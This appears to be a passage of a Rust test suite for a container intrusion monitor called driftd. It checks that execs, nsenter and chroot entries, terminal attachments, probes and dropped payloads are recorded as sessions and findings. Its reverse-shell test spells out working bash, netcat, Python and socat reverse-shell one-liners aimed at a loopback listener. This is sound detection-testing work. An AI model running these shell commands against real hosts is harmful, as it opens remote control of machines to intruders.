//! Sessions: users and tools that enter a container, in every way, and the commands that they
//! run there.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Child, ChildStdin, Command, Stdio};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::{Context as _, ensure};
use libtest_mimic::Trial;
use serde_json::Value;

use crate::node::{
    Container, DEADLINE, KUBERNETES, Node, Setup, bench, only, wait_for, wait_within,
};
use crate::{programs, test, test_alone, test_on};

/// driftd's own default: commands are watched for a rhythm, by which probes are recognised.
const WATCHFUL: &str = "probe_patience = \"30s\"";
const POD_NODE: Setup =
    Setup { driftd: WATCHFUL, cri: Some(""), own_runtime: false, unwatched: None };
const PYTHON: &str = "docker.io/driftd/python:1";

pub(crate) fn tests() -> Vec<Trial> {
    vec![
        test("a28_a_user_at_a_terminal_is_one_session_with_its_commands", a28_user),
        test("a29_an_exec_is_a_session_with_its_exec_id_and_its_end", a29_exec),
        test("the_requester_of_a_session_is_the_one_that_a_webhook_names", requested_by),
        test("a28_a_runtime_run_by_hand_is_reported_as_that", a28_by_hand),
        test("a30_nsenter_into_all_or_one_namespace_is_reported", a30_nsenter),
        test("a_process_that_enters_by_chroot_is_a_session", by_chroot),
        test("a_process_that_enters_for_a_moment_is_a_session", for_a_moment),
        test("a32_reverse_shells_are_sessions_with_their_commands", a32_reverse_shells),
        test("a_terminal_opened_later_is_reported", pseudo_terminal),
        test("a_terminal_of_init_is_no_session", terminal_of_init),
        test("an_attachment_to_the_terminal_of_init_is_a_session", attachment),
        test("b24_a_copy_is_an_exec_session_and_no_more", b24_copy),
        test("a_session_is_one_timeline_with_its_commands_and_findings", timeline),
        test("a_finding_of_a_process_that_a_session_left_names_the_session", left_behind),
        test("an_exec_that_fails_is_no_open_session", failed_exec),
        test_alone("sessions_go_on_over_a_restart_and_are_found_after_one", "", over_restart),
        test_alone("two_hundred_sessions_are_open_at_once", "", two_hundred),
        test_alone("a_thousand_execs_of_a_millisecond_are_a_thousand_sessions", "", a_thousand),
        test_alone("programs_of_a_millisecond_are_reported_with_their_arguments", "", moments),
        test_on("b15_a_probe_of_a_pod_is_counted_and_not_reported", POD_NODE, b15_probe),
        test_on("a31_a_container_beside_another_is_a_session", POD_NODE, a31_debug),
        test_on("input_by_way_of_the_kubelets_runtime_is_a_session", POD_NODE, attached),
    ]
}

/// The sessions of a container, oldest first.
fn sessions(container: &Container<'_>) -> anyhow::Result<Vec<Value>> {
    let mut sessions = container.node.answer(&["sessions", "-c", &container.id])?;
    sessions.sort_by_key(|session| session["started_at"].as_str().map(str::to_owned));
    Ok(sessions)
}

/// Waits until exactly `count` sessions are there and all are closed.
fn closed(container: &Container<'_>, count: usize) -> anyhow::Result<Vec<Value>> {
    let mut seen = Vec::new();
    let waited = wait_for("the sessions", || {
        seen = sessions(container)?;
        let all = seen.iter().all(|session| session["state"] == "closed");
        Ok((all && seen.len() == count).then_some(()))
    });
    ensure!(waited.is_ok(), "{count} closed sessions were expected, and there are {seen:#?}");
    Ok(seen)
}

/// `driftd show` of a session, when `count` of its commands are reported and have ended.
fn show(node: &Node, session: &Value, count: usize) -> anyhow::Result<Value> {
    let id = session["id"].as_str().context("a session has an ID")?;
    let mut shown = Value::Null;
    let waited = wait_for("the commands", || {
        shown = node.answer(&["show", id])?.into_iter().next().context("no session")?;
        let commands = shown["commands"].as_array().context("commands")?;
        let ended = commands.iter().filter(|command| command["ended_at"].is_string()).count();
        Ok((ended >= count).then_some(()))
    });
    ensure!(waited.is_ok(), "{count} commands were expected: {shown:#}");
    Ok(shown)
}

/// The commands of a session, each as its arguments.
fn commands(session: &Value) -> Vec<String> {
    let words = |command: &Value| match command["argv"].as_array() {
        Some(argv) => argv.iter().filter_map(Value::as_str).collect::<Vec<_>>().join(" "),
        None => command["exe"].as_str().unwrap_or("?").to_owned(),
    };
    session["commands"].as_array().into_iter().flatten().map(words).collect()
}

/// Asserts that these are the commands, in their order. The arguments of a command that ended
/// at once may not be known (docs/limits.md); its program is.
#[track_caller]
fn assert_ran(session: &Value, expected: &[&str]) {
    let ran = commands(session);
    let is_like = |ran: &String, expected: &&str| {
        ran == expected || Some(ran.as_str()) == expected.split(' ').next()
    };
    let all = ran.len() == expected.len()
        && ran.iter().zip(expected).all(|(ran, expected)| is_like(ran, expected));
    assert!(all, "{ran:#?}\nexpected {expected:#?}\n{session:#}");
}

/// `ctr task exec` with these options and this command.
fn exec(container: &Container<'_>, options: &[&str], command: &[&str]) -> Vec<String> {
    let fifo = container.node.path("fifo").display().to_string();
    let begin = ["task", "exec", "--fifo-dir", &fifo];
    let id = [container.id.as_str()];
    let all = begin.iter().chain(options).chain(&id).chain(command);
    all.map(|word| (*word).to_owned()).collect()
}

/// Runs a command in a container from outside, by `ctr task exec`, and waits for its end.
pub(crate) fn run(
    container: &Container<'_>,
    options: &[&str],
    command: &[&str],
) -> anyhow::Result<String> {
    let all = exec(container, options, command);
    container.node.ctr(&all.iter().map(String::as_str).collect::<Vec<_>>())
}

/// The same for a command that may fail.
fn try_run(
    container: &Container<'_>,
    options: &[&str],
    command: &[&str],
) -> anyhow::Result<std::process::Output> {
    let all = exec(container, options, command);
    let all: Vec<&str> = all.iter().map(String::as_str).collect();
    Ok(container.node.ctr_command(&all)?.output()?)
}

/// A user at a terminal: `script` gives a command such a terminal.
pub(crate) struct User {
    child: Child,
    keyboard: Option<ChildStdin>,
}

impl User {
    pub(crate) fn at(command: &str) -> anyhow::Result<User> {
        let mut child = Command::new(programs::find("script")?)
            .args(["-qec", command, "/dev/null"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()?;
        let keyboard = child.stdin.take();
        Ok(User { child, keyboard })
    }

    /// A user in a shell that `ctr` starts in a container.
    pub(crate) fn in_container(container: &Container<'_>, name: &str) -> anyhow::Result<User> {
        let fifo = container.node.path("fifo");
        let rest = format!(
            "task exec --fifo-dir {} -t --exec-id {name} {} /bin/sh",
            fifo.display(),
            container.id
        );
        User::at(&ctr(container.node, &rest)?)
    }

    pub(crate) fn types(&mut self, text: &str) -> anyhow::Result<()> {
        let keyboard = self.keyboard.as_mut().context("has left")?;
        Ok(keyboard.write_all(text.as_bytes())?)
    }

    /// Waits for the end of what was begun with `exit`.
    pub(crate) fn leaves(&mut self) -> anyhow::Result<()> {
        wait_for("the user to leave", || Ok(self.child.try_wait()?)).map(drop)
    }
}

impl Drop for User {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Waits for a file that a session makes.
fn made(container: &Container<'_>, name: &str) -> anyhow::Result<()> {
    let path = container.laid(name);
    wait_for(name, || Ok(path.exists().then_some(())))
}

fn a28_user(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    let mut user = User::in_container(&container, "user")?;
    // Sub-shells and a second shell in it are the same session.
    user.types("/bin/ls /\n(/bin/cat /etc/passwd)\n/bin/bash -c '/bin/ls /etc; exit 3'\n")?;
    user.types("/usr/bin/touch /.control/here\n")?;
    made(&container, "here")?;
    let open = wait_for("the session", || {
        let open = sessions(&container)?;
        ensure!(open.len() < 2, "{open:#?}");
        Ok((!open.is_empty()).then_some(open))
    })?;
    assert_eq!((&open[0]["state"], &open[0]["ended_at"]), (&"open".into(), &Value::Null));
    user.types("exec /bin/bash\nexit 5\n")?;
    user.leaves()?;

    let session = &closed(&container, 1)?[0];
    assert_eq!(session["schema"], "driftd.session/v1");
    assert_eq!((&session["entry"], &session["exec_id"]), (&"runtime_exec".into(), &"user".into()));
    assert_eq!(
        (&session["interactive"], &session["client"]),
        (&"terminal".into(), &"containerd".into())
    );
    assert_eq!(session["exit"]["code"], 5, "{session:#}");
    ensure!(session["process"]["tty"].as_str().is_some_and(|tty| tty.starts_with("pts/")));
    let above = format!("{}{}", session["process"]["ancestors"], session["host"]);
    ensure!(above.contains("containerd-shim"), "{session:#}");
    let shown = show(node, session, 7)?;
    let expected = [
        "/bin/sh",
        "/bin/ls /",
        "/bin/cat /etc/passwd",
        "/bin/bash -c /bin/ls /etc; exit 3",
        "/bin/ls /etc",
        "/usr/bin/touch /.control/here",
        "/bin/bash",
    ];
    assert_ran(&shown, &expected);
    let exits = shown["commands"].as_array().context("commands")?;
    assert_eq!(exits[3]["exit"]["code"], 3, "{shown:#}");

    // One session is one finding, however often its shell becomes another.
    let findings = container.expect_findings(&["medium session.interactive"])?;
    let finding = only(&findings, "session.interactive")?;
    assert_eq!((&finding["session"], &finding["count"]), (&session["id"], &1.into()));
    assert_eq!(session["finding"], finding["id"]);
    assert_eq!(finding["last_seen"], session["ended_at"]);
    Ok(())
}

fn a29_exec(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    let command = ["/bin/sh", "-c", "/bin/ls /; exit 7"];
    let ended = try_run(&container, &["--exec-id", "copy"], &command)?;
    assert_eq!(ended.status.code(), Some(7));
    // containerd's event may come after the end.
    let session = &wait_for("the exec's name", || {
        let closed = closed(&container, 1)?;
        Ok(closed.into_iter().find(|session| session["exec_id"].is_string()))
    })?;
    assert_eq!((&session["entry"], &session["exec_id"]), (&"runtime_exec".into(), &"copy".into()));
    assert_eq!((&session["interactive"], &session["exit"]["code"]), (&Value::Null, &7.into()));
    assert_ran(&show(node, session, 2)?, &["/bin/sh -c /bin/ls /; exit 7", "/bin/ls /"]);
    let findings = container.expect_findings(&["info session.exec"])?;
    assert_eq!(only(&findings, "session.exec")?["session"], session["id"]);
    Ok(())
}

/// The command `runc exec REST`.
fn runc(container: &Container<'_>, rest: &str) -> anyhow::Result<String> {
    let root = Path::new("/run/containerd/runc").join(&container.node.namespace);
    let runc = programs::find("runc")?;
    Ok(format!("{} --root {} exec {rest}", runc.display(), root.display()))
}

fn a28_by_hand(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    let mut user = User::at(&runc(&container, &format!("-t {} /bin/sh", container.id))?)?;
    user.types("/bin/ls /\nexit 4\n")?;
    user.leaves()?;
    let session = &closed(&container, 1)?[0];
    assert_eq!((&session["entry"], &session["exec_id"]), (&"runtime_direct".into(), &Value::Null));
    assert_eq!(session["interactive"], "terminal");
    ensure!([4.into(), Value::Null].contains(&session["exit"]["code"]), "{session:#}");
    // Its callers are on the host.
    let callers = format!("{}{}", session["process"]["ancestors"], session["host"]);
    ensure!(callers.contains("runc") && callers.contains("script"), "{session:#}");
    assert_ran(&show(node, session, 2)?, &["/bin/sh", "/bin/ls /"]);
    container.expect_findings(&["medium session.interactive"]).map(drop)
}

/// The requester's name as an admission webhook adds it to the command, and as an option of
/// the runtime adds it to the environment.
fn requested_by(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    let webhook = ["/bin/env", "SPO_EXEC_REQUEST_UID=request-1", "/bin/sleep", "0.2"];
    run(&container, &["--exec-id", "webhook"], &webhook)?;
    let variable = "-e SPO_EXEC_REQUEST_UID=request-2";
    let by_hand = format!("-t {variable} {} /bin/sleep 1", container.id);
    User::at(&runc(&container, &by_hand)?)?.leaves()?;
    run(&container, &["--exec-id", "plain"], &["/bin/sleep", "0.2"])?;
    let requesters: Vec<Value> =
        closed(&container, 3)?.into_iter().map(|session| session["requested_by"].clone()).collect();
    assert_eq!(requesters, ["request-1".into(), "request-2".into(), Value::Null]);
    let expected = ["info session.exec", "info session.exec", "medium session.interactive"];
    container.expect_findings(&expected).map(drop)
}

/// The first process of a container, as the host numbers it.
pub(crate) fn init(container: &Container<'_>) -> anyhow::Result<u64> {
    let known = container.node.answer(&["containers"])?;
    let own = known.iter().find(|known| known["id"] == container.id.as_str());
    own.and_then(|own| own["pid"].as_u64()).context("no such container")
}

fn a30_nsenter(node: &Node) -> anyhow::Result<()> {
    let cases: [(&str, &[&str]); 4] = [
        ("all", &["-m", "-u", "-i", "-n", "-p"]),
        ("mount", &["-m"]),
        ("pid", &["-p"]),
        ("pid-and-mount", &["-m", "-p"]),
    ];
    // A process that ends within milliseconds is not always seen (docs/limits.md).
    for (name, options) in cases {
        let container = node.container()?;
        let status = Command::new(programs::find("nsenter")?)
            .args(["-t", &init(&container)?.to_string()])
            .args(options)
            .args(["/bin/sleep", "1"])
            .stdout(Stdio::null())
            .stdin(Stdio::null())
            .status()?;
        ensure!(status.success(), "{name}: {status}");
        let session = &closed(&container, 1).context(name)?[0];
        assert_eq!(session["entry"], "namespace", "{name}: {session:#}");
        assert_eq!(session["client"], Value::Null, "{name}: {session:#}");
        let findings = container.expect_findings(&["high namespace.entered"]).context(name)?;
        let finding = only(&findings, "namespace.entered")?;
        assert_eq!(
            (&finding["session"], &finding["attack"]["technique"]),
            (&session["id"], &"T1611".into())
        );
    }
    // With a terminal it is an interactive session too.
    let container = node.container()?;
    let nsenter = programs::find("nsenter")?;
    let mut user =
        User::at(&format!("{} -t {} -m -p /bin/sh", nsenter.display(), init(&container)?))?;
    user.types("/bin/ls /\n")?;
    // On a busy machine the shell would end before driftd examines it.
    wait_for("the session", || Ok((sessions(&container)?.len() == 1).then_some(())))?;
    user.types("exit\n")?;
    user.leaves()?;
    closed(&container, 1)?;
    container.expect_findings(&["high namespace.entered", "medium session.interactive"]).map(drop)
}

fn by_chroot(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    let root = format!("/proc/{}/root", init(&container)?);
    let status = Command::new(programs::find("chroot")?)
        .args([&root, "/bin/sh", "-c", "/bin/ls / >/dev/null; /bin/ls /etc >/dev/null"])
        .stdin(Stdio::null())
        .status()?;
    ensure!(status.success(), "{status}");
    let session = &closed(&container, 1)?[0];
    assert_eq!(session["entry"], "namespace", "{session:#}");
    container.expect_findings(&["high namespace.entered"]).map(drop)
}

/// Processes that end before driftd can examine them: by the kernel's records, they entered.
fn for_a_moment(node: &Node) -> anyhow::Result<()> {
    const TIMES: usize = 10;
    let container = node.container()?;
    let init = init(&container)?.to_string();
    let root = format!("/proc/{init}/root");
    let ways: [&[&str]; 4] = [
        &["chroot", &root],
        &["nsenter", "-m", "-t", &init],
        &["nsenter", "-m", "-u", "-t", &init],
        &["nsenter", "-m", "-u", "-i", "-n", "-t", &init],
    ];
    for way in ways {
        for _ in 0..TIMES {
            let mut command = Command::new(programs::find(way[0])?);
            command.args(&way[1..]).args(["/bin/ls", "/"]).stdout(Stdio::null());
            let status = command.status()?;
            ensure!(status.success(), "{way:?}: {status}");
        }
    }
    // A program of the container that the host runs by its path on the host enters nothing.
    let by_path = Command::new(format!("{root}/bin/ls")).stdout(Stdio::null()).status()?;
    ensure!(by_path.success(), "{by_path}");
    let sessions = closed(&container, TIMES * ways.len())?;
    for session in &sessions {
        assert_eq!(session["entry"], "namespace", "{session:#}");
    }
    container.expect_findings(&["high namespace.entered"; 4 * TIMES]).map(drop)
}

/// The workbench with Python and socat in it.
fn import_python(node: &Node) -> anyhow::Result<()> {
    let mut layers = programs::workbench(&bench()?.payload)?;
    layers.extend([programs::python()?, programs::program("socat")?]);
    node.import_layers(PYTHON, layers).map(drop)
}

/// A listener on the loopback interface that types into the connection, and its port.
fn listen(text: &'static str) -> anyhow::Result<(u16, JoinHandle<anyhow::Result<()>>)> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let thread = thread::spawn(move || {
        let (mut connection, _) = listener.accept()?;
        // The shell must be seen before it gets its commands.
        thread::sleep(Duration::from_secs(3));
        connection.write_all(text.as_bytes())?;
        connection.set_read_timeout(Some(DEADLINE))?;
        let _ = connection.read_to_end(&mut Vec::new());
        Ok(())
    });
    Ok((port, thread))
}

fn a32_reverse_shells(node: &Node) -> anyhow::Result<()> {
    import_python(node)?;
    let dial = |port: u16| {
        [
            ("bash", format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")),
            ("nc", format!("busybox nc 127.0.0.1 {port} -e /bin/sh")),
            (
                "python",
                format!(
                    "/usr/bin/python3 -c 'import os,pty,socket; s=socket.create_connection(\
                     (\"127.0.0.1\",{port})); [os.dup2(s.fileno(),n) for n in (0,1,2)]; \
                     os.execv(\"/bin/sh\",[\"sh\",\"-i\"])'"
                ),
            ),
            (
                "python pty",
                format!(
                    "/usr/bin/python3 -c 'import os,pty,socket; s=socket.create_connection(\
                     (\"127.0.0.1\",{port})); [os.dup2(s.fileno(),n) for n in (0,1,2)]; \
                     pty.spawn(\"/bin/sh\")'"
                ),
            ),
            ("socat", format!("socat TCP:127.0.0.1:{port} EXEC:/bin/sh")),
            ("socat pty", format!("socat TCP:127.0.0.1:{port} EXEC:/bin/sh,pty,setsid,ctty")),
        ]
    };
    for kind in 0..6 {
        let container = node.container_on_host_network(PYTHON)?;
        let (port, listener) = listen("/bin/ls /\nexit\n")?;
        let (name, command) = &dial(port)[kind];
        let running = container.begin(&format!("{command} || true"))?;
        running.finish(DEADLINE).context(*name)?;
        listener.join().ok().context("the listener")??;
        let session = &closed(&container, 1).context(*name)?[0];
        assert_eq!(session["entry"], "reverse_shell", "{name}: {session:#}");
        let (interactive, severity) = match *name {
            "socat" => (Value::Null, "high"),
            "socat pty" => ("terminal".into(), "high"),
            _ => ("socket".into(), "critical"),
        };
        assert_eq!(session["interactive"], interactive, "{name}: {session:#}");
        let commands = commands(&show(node, session, 1)?);
        ensure!(commands.iter().any(|ran| ran.starts_with("/bin/ls")), "{name}: {commands:?}");
        let expected = format!("{severity} shell.reverse");
        let findings = container.expect_findings(&[&expected]).context(*name)?;
        let finding = only(&findings, "shell.reverse")?;
        assert_eq!((&finding["session"], &session["finding"]), (&session["id"], &finding["id"]));
    }
    Ok(())
}

fn pseudo_terminal(node: &Node) -> anyhow::Result<()> {
    import_python(node)?;
    let container = node.container_of(PYTHON)?;
    run(
        &container,
        &["--exec-id", "pty"],
        &[
            "/usr/bin/python3",
            "-c",
            "import pty; pty.spawn([\"/bin/sh\",\"-c\",\"/bin/ls /; exec /bin/sleep 1\"])",
        ],
    )?;
    let session = &closed(&container, 1)?[0];
    assert_eq!(session["interactive"], "terminal_later", "{session:#}");
    let findings = container.findings()?;
    let finding = only(&findings, "session.interactive")?;
    assert_eq!(finding["session"], session["id"]);
    Ok(())
}

/// The command `ctr REST` with this node's containerd.
fn ctr(node: &Node, rest: &str) -> anyhow::Result<String> {
    let (ctr, socket) = (programs::find("ctr")?, node.path("containerd.sock"));
    let (ctr, socket) = (ctr.display(), socket.display());
    Ok(format!("{ctr} --address {socket} --namespace {} {rest}", node.namespace))
}

/// A container whose init is a shell with a terminal.
fn run_with_terminal(node: &Node, options: &str, id: &str) -> anyhow::Result<User> {
    node.own_container(id);
    let (fifo, root) = (node.path("fifo"), Path::new("/run/containerd/runc"));
    let mut user = User::at(&ctr(
        node,
        &format!(
            "run --fifo-dir {} --runc-root {} {options} -t {} {id} /bin/sh",
            fifo.display(),
            root.join(&node.namespace).display(),
            programs::WORKBENCH,
        ),
    )?)?;
    node.wait_until_watched(id)?;
    if options.contains("-d") {
        user.leaves()?;
    }
    Ok(user)
}

fn terminal_of_init(node: &Node) -> anyhow::Result<()> {
    let id = node.next_id();
    let mut user = run_with_terminal(node, "", &id)?;
    user.types("/bin/ls /\n/bin/bash -c '/bin/ls /etc'\n")?;
    thread::sleep(Duration::from_secs(1));
    assert_eq!(node.answer(&["sessions", "-c", &id])?, Vec::<Value>::new());
    assert_eq!(node.answer(&["findings", "--container", &id])?, Vec::<Value>::new());
    user.types("exit\n")?;
    user.leaves()
}

fn attachment(node: &Node) -> anyhow::Result<()> {
    let id = node.next_id();
    run_with_terminal(node, "-d", &id)?;
    assert_eq!(node.answer(&["sessions", "-c", &id])?, Vec::<Value>::new());
    let mut user = User::at(&ctr(node, &format!("task attach {id}"))?)?;
    let session =
        wait_for("the session", || Ok(node.answer(&["sessions", "-c", &id])?.into_iter().next()))?;
    assert_eq!(
        (&session["entry"], &session["interactive"]),
        (&"attach".into(), &"terminal".into())
    );
    ensure!(session["process"]["argv"].to_string().contains("attach"), "{session:#}");
    let findings = wait_for("the finding", || {
        let findings = node.answer(&["findings", "--container", &id])?;
        Ok((!findings.is_empty()).then_some(findings))
    })?;
    assert_eq!(only(&findings, "session.interactive")?["session"], session["id"]);
    user.types("/bin/ls /\nexit\n")?;
    user.leaves()?;
    let session = wait_for("its end", || {
        let sessions = node.answer(&["sessions", "-c", &id])?;
        ensure!(sessions.len() == 1, "{sessions:#?}");
        Ok(sessions.into_iter().find(|session| session["state"] == "closed"))
    })?;
    let shown = show(node, &session, 1)?;
    assert_ran(&shown, &["/bin/ls /"]);
    Ok(())
}

fn b24_copy(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.sh("echo data > /tmp/data")?;
    run(&container, &["--exec-id", "cp"], &["/bin/cat", "/tmp/data"])?;
    closed(&container, 1)?;
    container.expect_findings(&["info session.exec"]).map(drop)
}

fn left_behind(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay_payload("x")?;
    // Its parents have ended long before it runs what was dropped.
    let script =
        "(/bin/sleep 2; cp /.control/x /tmp/x; /tmp/x) >/dev/null 2>&1 </dev/null & exit 0";
    run(&container, &["--exec-id", "left"], &["/bin/sh", "-c", script])?;
    let session = closed(&container, 1)?.remove(0);
    let findings = container.expect_findings(&["critical exec.new /tmp/x", "info session.exec"])?;
    let run = only(&findings, "exec.new")?;
    assert_eq!(run["session"], session["id"], "{run:#}");
    let session = &sessions(&container)?[0];
    assert_eq!(session["findings"], serde_json::json!([run["id"]]), "{session:#}");
    Ok(())
}

fn failed_exec(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    for (name, program) in [("missing", "/bin/no-such-program"), ("data", "/etc/passwd")] {
        let ended = try_run(&container, &["--exec-id", name], &[program])?;
        ensure!(!ended.status.success(), "{program} can be executed");
    }
    // A canary after them: any session that they left open would be listed by then.
    run(&container, &["--exec-id", "good"], &["/bin/ls", "/"])?;
    let seen = wait_for("the last session", || {
        let seen = sessions(&container)?;
        let is_there = seen.iter().any(|session| session["exec_id"] == "good");
        Ok((is_there && seen.iter().all(|one| one["state"] == "closed")).then_some(seen))
    })?;
    ensure!(seen.len() <= 3, "{seen:#?}");
    Ok(())
}

/// Programs of a millisecond in a session. With a large environment the kernel's own
/// copy of their arguments often ends before them.
fn moments(node: &Node) -> anyhow::Result<()> {
    const TIMES: usize = 400;
    let container = node.container()?;
    let mut user = User::in_container(&container, "user")?;
    let large = format!("export LARGE={}\n", "x".repeat(3_000));
    user.types(&large)?;
    user.types(&format!("i=0; while [ $i -lt {TIMES} ]; do /bin/true $i; i=$((i+1)); done\n"))?;
    user.types("/usr/bin/touch /.control/through\n")?;
    made(&container, "through")?;
    user.types("exit\n")?;
    user.leaves()?;
    let session = &closed(&container, 1)?[0];
    let ran = commands(&show(node, session, TIMES + 2)?);
    let ran: Vec<&String> = ran.iter().filter(|ran| ran.starts_with("/bin/true")).collect();
    assert_eq!(ran.len(), TIMES, "each of them is reported");
    let whole = ran.iter().enumerate().filter(|(i, ran)| ***ran == format!("/bin/true {i}"));
    let whole = whole.count();
    // On a busy machine some end before driftd can examine them.
    eprintln!("{whole} of {TIMES} have their arguments");
    ensure!(whole * 4 >= TIMES * 3, "{whole} of {TIMES}: {ran:?}");
    Ok(())
}

fn over_restart(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    let mut known = User::in_container(&container, "known")?;
    known.types("/usr/bin/touch /.control/one\n")?;
    made(&container, "one")?;
    let before = wait_for("the session", || {
        let open = sessions(&container)?;
        Ok(open.first().is_some_and(|session| session["commands"] == 2).then_some(open))
    })?;
    node.stop_driftd()?;
    let mut unseen = User::in_container(&container, "unseen")?;
    unseen.types("/usr/bin/touch /.control/two\n")?;
    made(&container, "two")?;
    node.start_driftd()?;
    container.wait_until_watched()?;
    let after = wait_for("both sessions", || {
        let open = sessions(&container)?;
        Ok((open.len() == 2).then_some(open))
    })?;
    let own = after.iter().find(|session| session["id"] == before[0]["id"]);
    let own = own.context("the session that was known has another ID now")?;
    assert_eq!(own["state"], "open");
    // The gate's event and the kernel's record of the shell come in either order.
    ensure!(["gate".into(), "trace".into()].contains(&own["discovered"]), "{own:#}");
    let found = after.iter().find(|session| session["id"] != before[0]["id"]).context("one")?;
    assert_eq!((&found["discovered"], &found["entry"]), (&"scan".into(), &"runtime_exec".into()));
    // Both go on.
    for user in [&mut known, &mut unseen] {
        user.types("/bin/ls /\nexit\n")?;
        user.leaves()?;
    }
    for session in closed(&container, 2)? {
        let count = if session["discovered"] == "scan" { 1 } else { 3 };
        let commands = commands(&show(node, &session, count)?);
        let last = commands.last().is_some_and(|ran| ran.starts_with("/bin/ls"));
        assert!(last, "{commands:?} {session:#}");
    }
    Ok(())
}

fn two_hundred(node: &Node) -> anyhow::Result<()> {
    const SESSIONS: usize = 200;
    let container = node.container()?;
    for number in 0..SESSIONS {
        let (name, seconds) = (format!("s{number}"), format!("{}", 4000 + number));
        run(&container, &["-d", "--exec-id", &name], &["/bin/sleep", &seconds])?;
    }
    let open = wait_for("the sessions", || {
        let open = node.answer(&["sessions", "-c", &container.id, "--open"])?;
        let named = open.iter().filter(|session| session["exec_id"].is_string()).count();
        Ok((named == SESSIONS).then_some(open))
    })?;
    let mut reported: Vec<String> =
        open.iter().map(|session| session["process"]["argv"].to_string()).collect();
    reported.sort();
    let mut expected: Vec<String> =
        (0..SESSIONS).map(|number| format!("[\"/bin/sleep\",\"{}\"]", 4000 + number)).collect();
    expected.sort();
    assert_eq!(reported, expected);
    container.stop()?;
    closed(&container, SESSIONS).map(drop)
}

fn a_thousand(node: &Node) -> anyhow::Result<()> {
    const EXECS: usize = 1000;
    let container = node.container()?;
    let root = Path::new("/run/containerd/runc").join(&node.namespace);
    let runc = programs::find("runc")?;
    let began = Instant::now();
    for number in 0..EXECS {
        let status = Command::new(&runc)
            .arg("--root")
            .arg(&root)
            .args(["exec", &container.id, "/bin/busybox", "true", &number.to_string()])
            .stdin(Stdio::null())
            .status()?;
        ensure!(status.success(), "exec {number}: {status}");
    }
    eprintln!("{EXECS} execs took {:?}", began.elapsed());
    let mut reported = Vec::new();
    let waited = wait_within(Duration::from_secs(60), "the sessions", || {
        reported = sessions(&container)?;
        let all = reported.iter().all(|session| session["state"] == "closed");
        Ok((reported.len() == EXECS && all).then_some(()))
    });
    let arguments = |session: &Value| session["process"]["argv"].to_string();
    let mut seen: Vec<String> = reported.iter().map(arguments).collect();
    seen.sort();
    let mut expected: Vec<String> =
        (0..EXECS).map(|number| format!("[\"/bin/busybox\",\"true\",\"{number}\"]")).collect();
    expected.sort();
    let missing: Vec<&String> = expected.iter().filter(|one| !seen.contains(one)).collect();
    ensure!(
        waited.is_ok() && missing.is_empty(),
        "{} sessions, {} of them without their arguments or not reported: {missing:?}",
        reported.len(),
        missing.len(),
    );
    let ends = reported.iter().filter(|session| session["exit"]["code"] == 0).count();
    eprintln!("the exit code is known of {ends} of {EXECS}");
    Ok(())
}

/// Pulls the workbench as a kubelet does, and imports the image of pods' sandboxes.
fn pulled_workbench(node: &Node) -> anyhow::Result<String> {
    let pause = node.path("pause.tar");
    programs::write_pause(&pause, &bench()?.payload)?;
    node.ctr_in(KUBERNETES, &["images", "import", &pause.to_string_lossy()])?;
    let image = crate::registry::publish(&bench()?.workbench, "shop/workbench:1")?;
    node.cri().pull(&image)?;
    Ok(image)
}

fn b15_probe(node: &Node) -> anyhow::Result<()> {
    let image = pulled_workbench(node)?;
    let (sandbox, container) = node.pod_of(&image)?;
    let until = Instant::now() + Duration::from_secs(30);
    let mut times = 0_u64;
    while Instant::now() < until {
        let began = Instant::now();
        let probe = ["/bin/sh", "-c", "/bin/cat /etc/passwd"];
        let (code, _) = node.cri().exec_sync(&container.id, &probe)?;
        assert_eq!(code, 0);
        times += 1;
        thread::sleep(Duration::from_millis(200).saturating_sub(began.elapsed()));
    }
    let mut probes = Vec::new();
    let waited = wait_for("all of them to be counted", || {
        probes = node.answer(&["probes", "-c", &container.id])?;
        // A run that ended before driftd could examine it is not counted for the probe.
        let counted = probes.first().and_then(|probe| probe["count"].as_u64()).unwrap_or(0);
        Ok((probes.len() == 1 && counted + times / 20 >= times).then_some(()))
    });
    ensure!(waited.is_ok(), "{times} were expected: {probes:#?}\n{:#?}", sessions(&container)?);
    let probe = &probes[0];
    assert_eq!((&probe["source"], &probe["reported"]), (&"learned".into(), &false.into()));
    assert_eq!(probe["container"]["pod"]["namespace"], "shop", "{probe:#}");
    let reported = container.findings()?;
    ensure!(reported.len() <= 1, "{reported:#?}");
    // Sessions of before it was recognised as a probe name the pod.
    for session in sessions(&container)? {
        assert_eq!(session["client"], "cri");
        assert_eq!(session["container"]["pod"]["container"], "app", "{session:#}");
        ensure!(session["image"]["manifest_digest"].is_string(), "{session:#}");
    }
    // After `probes report`, the next run is reported.
    let id = probe["id"].as_str().context("an ID")?;
    let set = node.driftd(&["probes", "report", id])?;
    ensure!(set.status.success(), "{set:?}");
    node.cri().exec_sync(&container.id, &["/bin/sh", "-c", "/bin/cat /etc/passwd"])?;
    wait_within(Duration::from_secs(60), "the finding", || {
        let findings = container.findings()?;
        Ok(findings.iter().any(|one| one["kind"] == "session.exec").then_some(()))
    })?;
    node.cri().remove_pod_sandbox(&sandbox)
}

fn a31_debug(node: &Node) -> anyhow::Result<()> {
    let image = pulled_workbench(node)?;
    let (sandbox, container) = node.pod_of(&image)?;
    let debugger = node.debug_container(&sandbox, &container.id, &image)?;
    let session = wait_for("the session", || {
        Ok(node.answer(&["sessions", "-c", &debugger])?.into_iter().next())
    })?;
    assert_eq!(session["entry"], "shared_pid_namespace", "{session:#}");
    assert_eq!(session["interactive"], "terminal", "{session:#}");
    let findings = wait_for("the finding", || {
        let findings = node.answer(&["findings", "--container", &debugger])?;
        Ok((!findings.is_empty()).then_some(findings))
    })?;
